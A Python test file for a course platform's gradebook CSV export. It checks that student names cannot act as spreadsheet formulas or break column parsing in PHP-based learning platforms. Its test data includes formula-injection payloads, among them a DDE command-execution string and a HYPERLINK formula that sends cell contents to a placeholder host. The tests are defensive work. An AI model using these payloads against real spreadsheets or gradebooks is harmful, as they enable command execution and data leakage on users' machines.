"""The table of everybody's grades, as it is read by spreadsheets and programs."""

import csv
import io
import re
from types import SimpleNamespace

import pytest
from courseware.hub_settings import Grading
from hypothesis import example, given, settings
from hypothesis import strategies as st
from labhub.accounts import Accounts
from labhub.grader.gradebook import Gradebook, Submission
from labhub.grader.grades import Grade
from labhub.grader.table import Row, Table, table
from labhub.grader.tables import Outcome

MAXIMA = {("intro", "one"): 2.0, ("intro", "two"): 0.5, ("desktop", "one"): 1.0}
HEAD = [
    "username", "name", "total (of 3.5)",
    "intro (of 2.5)", "intro/one (of 2)", "intro/two (of 0.5)",
    "desktop (of 1)", "desktop/one (of 1)",
]  # fmt: skip


def rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def named(*names):
    return Table(MAXIMA, [Row(f"p{n}", name, {}) for n, name in enumerate(names)])


@pytest.fixture
def release():
    exercises = {}
    for (tutorial, name), maximum in MAXIMA.items():
        exercises.setdefault(tutorial, {})[name] = SimpleNamespace(maximum=maximum)
    return SimpleNamespace(tutorials=exercises)


@pytest.fixture
def book(tmp_path):
    return Gradebook(f"sqlite:///{tmp_path}/grades.sqlite")


def submit(book, participant, tutorial, exercise, points=None):
    key = f"{tutorial} {exercise} {points}"
    attempt = book.add(Submission(participant, tutorial, exercise, {}, key), 1)
    [job] = [each.job for each in book.waiting() if each.attempt == attempt]
    if points is not None:
        assert book.record(
            Outcome(job_id=job, graded=2, checks="", image="", seed=1, points=points, maximum=2,
                    failed="", broken="")
        )  # fmt: skip


def test_everybody_has_a_row_also_who_did_nothing(book, release, users):
    submit(book, "p01", "intro", "one", 1.5)
    submit(book, "p01", "intro", "two", 0)
    submit(book, "p02", "desktop", "one")  # waits
    submit(book, "org", "intro", "one", 2)
    submit(book, "p01", "intro", "of another release", 2)
    submit(book, "p01", "gone", "one", 2)
    found = table(book, release, Accounts(users), Grading())
    assert rows(found.csv()) == [
        HEAD,
        ["p01", "Name of p01", "1.5", "1.5", "1.5", "0", "", ""],
        ["p02", "Name of p02", "0", "", "", "", "", ""],
    ]


def test_an_empty_gradebook_and_nobody_on_the_roster(book, release):
    nobody = SimpleNamespace(all=dict, with_role=lambda role: [])
    assert rows(table(book, release, nobody, Grading()).csv()) == [HEAD]


def test_sums_are_exact_as_people_add():
    grades = {(f"t{n}", "one"): Grade(0.1, 0.1, 1.0, 1) for n in range(3)}
    found = Table(dict.fromkeys(grades, 0.1), [Row("p01", "Ann", grades)])
    assert [line[2] for line in rows(found.csv())] == ["total (of 0.3)", "0.3"]


def test_excel_knows_the_letters_and_lines_end_as_everywhere():
    content = named("Zoë 学生").csv()
    assert content.startswith(b"\xef\xbb\xbfusername,name,")
    assert content.count(b"\r\n") == 2


FORMULA = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
NAMES = [
    "=1+1", " =1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", '"=1+1"', "'=1",
    "=HYPERLINK(\"http://x/?\"&A1)", "=cmd|' /C calc'!A0", "x;=1+1;y", "x,=1", "x\n=1", "x\r\n=1",
    "x;\t -1", "x| @y",
]  # fmt: skip


def starts_formula(cell):
    return cell.lstrip().startswith(FORMULA)


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("name", NAMES)
def test_no_name_is_a_formula_whatever_the_spreadsheet_takes_for_separators(name, separator):
    text = named(name).csv().decode("utf-8-sig")
    for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        assert not [cell for cell in line if starts_formula(cell)]


@pytest.mark.parametrize("name", ["Anna-Lena Groß", "O'Neil, Ann", 'Ed "Ted" W.', "王 小明", "a+b"])
def test_usual_names_are_left_as_they_are(name):
    assert rows(named(name).csv())[1][1] == name


def php_fields(line):
    """As fgetcsv() of PHP, and Moodle with it, reads a line: a backslash shields a quote."""
    field = r'"((?:\\.|""|[^"\\])*)"|([^,"]*)'
    return [quoted or plain for quoted, plain in re.findall(rf"(?:{field})(?:,|$)", line)]


@pytest.mark.parametrize("name", ['a,\\', '\\",0,0', 'x\\"y', '\\\\"', "\\"])  # fmt: skip
def test_no_name_moves_the_columns_of_a_learning_platform(name):
    line = named(name).csv().decode("utf-8-sig").split("\r\n")[1]
    assert php_fields(line)[2] == "0"


@settings(deadline=None)  # time limits fail on a busy machine and say nothing about the code
@given(st.lists(st.text(), min_size=1, max_size=3))
@example(["a\x00b", "\u2028=1", "\x85"])
def test_any_name_is_one_line_of_the_table(names):
    found = rows(named(*(name.encode(errors="ignore").decode() for name in names)).csv())
    assert {len(line) for line in found} == {len(HEAD)}
    assert len(found) == len(names) + 1
    for line in found[1:]:
        assert not starts_formula(line[1])
